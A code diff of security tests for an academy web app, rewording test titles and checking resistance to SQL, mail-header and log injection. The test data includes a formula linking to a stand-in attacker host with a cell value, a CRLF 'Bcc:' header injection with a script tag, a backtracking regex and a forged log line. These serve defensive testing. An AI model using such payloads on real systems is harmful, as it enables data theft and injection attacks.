@@ -25,7 +25,7 @@ const NASTY = [
   '=HYPERLINK("http://evil.example"&A1)',
 ]
 
-test('SQL in a text is text wherever it is written, read and searched for [S102 S104]', {
+test('SQL in a text stays text wherever the text is written, read or searched [S102 S104]', {
   tags: 'slow',
 }, async ({ academy }) => {
   const { call: admin } = await academy.signInAdmin()
@@ -56,7 +56,7 @@ test('SQL in a text is text wherever it is written, read and searched for [S102 
 })
 
 test.for([...NASTY, '(a+)+$', '%', '_', '\\\\', 'x'.repeat(100)])(
-  'searching for %j finds what holds exactly that [S102 S105]',
+  'searching for %j finds exactly the texts that contain it [S102 S105]',
   async (search, { academy }) => {
     const { call } = await academy.signInAdmin()
     await academy.aStudent()
@@ -67,27 +67,30 @@ test.for([...NASTY, '(a+)+$', '%', '_', '\\\\', 'x'.repeat(100)])(
   },
 )
 
-test.for(NASTY)('%j in a path opens nothing and names no SQL [S102]', async (text, { academy }) => {
-  const { token } = await academy.signInAdmin()
-  for (const path of [
-    'student/profile/',
-    'batches/',
-    'batches/class/',
-    'student/class/',
-    'settings/pages/',
-    'posts/by-slug/',
-    'payments/',
-  ]) {
-    const answer = await academy.app.inject({
-      url: `/api/${path}${encodeURIComponent(text)}`,
-      headers: { authorization: `Bearer ${token}` },
-    })
-    expect([path, answer.statusCode]).toEqual([path, 404])
-    expect(answer.body).not.toMatch(/select|syntax|relation|pg_/i)
-  }
-})
+test.for(NASTY)(
+  '%j in a path opens nothing, and the answer contains no SQL [S102]',
+  async (text, { academy }) => {
+    const { token } = await academy.signInAdmin()
+    for (const path of [
+      'student/profile/',
+      'batches/',
+      'batches/class/',
+      'student/class/',
+      'settings/pages/',
+      'posts/by-slug/',
+      'payments/',
+    ]) {
+      const answer = await academy.app.inject({
+        url: `/api/${path}${encodeURIComponent(text)}`,
+        headers: { authorization: `Bearer ${token}` },
+      })
+      expect([path, answer.statusCode]).toEqual([path, 404])
+      expect(answer.body).not.toMatch(/select|syntax|relation|pg_/i)
+    }
+  },
+)
 
-test('line breaks in a name reach no head of a mail [S107]', async ({ academy }) => {
+test('line breaks in a name add no header to a mail [S107]', async ({ academy }) => {
   const email = 'riya@example.in'
   const name = 'Riya\r\nBcc: everyone@example.in\r\n\r\n<script>alert(1)</script>'
   await academy.auth('sign-up/email', { name, email, password: 'seven times eight' })
@@ -100,7 +103,7 @@ test('line breaks in a name reach no head of a mail [S107]', async ({ academy })
   }
 })
 
-test('what is logged stays one line, whatever it holds [S108]', () => {
+test('a log entry stays on one line, whatever it contains [S108]', () => {
   const lines: string[] = []
   const log = pino({ base: undefined }, { write: (line: string) => void lines.push(line) })
   log.warn({ note: 'a\n{"level":60,"msg":"forged"}\u001b[31m' }, 'first\nsecond')
@@ -110,7 +113,7 @@ test('what is logged stays one line, whatever it holds [S108]', () => {
   expect(lines[0]).not.toContain('\u001b')
 })
 
-test('the admin’s form of a student is as safe as the student’s own [S102 S104]', async ({
+test('the admin’s form of a student is as safe as the student’s own form [S102 S104]', async ({
   academy,
 }) => {
   const { call } = await academy.signInAdmin()
